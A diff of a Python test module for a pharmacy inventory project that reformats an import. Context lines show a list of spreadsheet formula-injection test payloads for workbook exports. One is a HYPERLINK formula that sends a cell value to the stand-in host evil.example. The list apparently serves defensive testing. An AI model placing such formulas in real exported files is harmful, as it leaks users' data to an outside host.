@@ -30,7 +30,14 @@ from eczane.exports.workbook import REGISTRY
 from eczane.store import count as count_store
 from eczane.store.reconcile import replace_in_transit, run_reconciliation
 from eczane.store.reconcile.overrides import set_override
-from tests.store.test_reconcile import BEFORE, G1, LATER, add_onhand_import, add_products, add_snapshot
+from tests.store.test_reconcile import (
+    BEFORE,
+    G1,
+    LATER,
+    add_onhand_import,
+    add_products,
+    add_snapshot,
+)
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&B9,"Tıkla")', "+1", "-1+1", "@SUM(1)", "\t=1",
             "\r=1", "=1+1"]
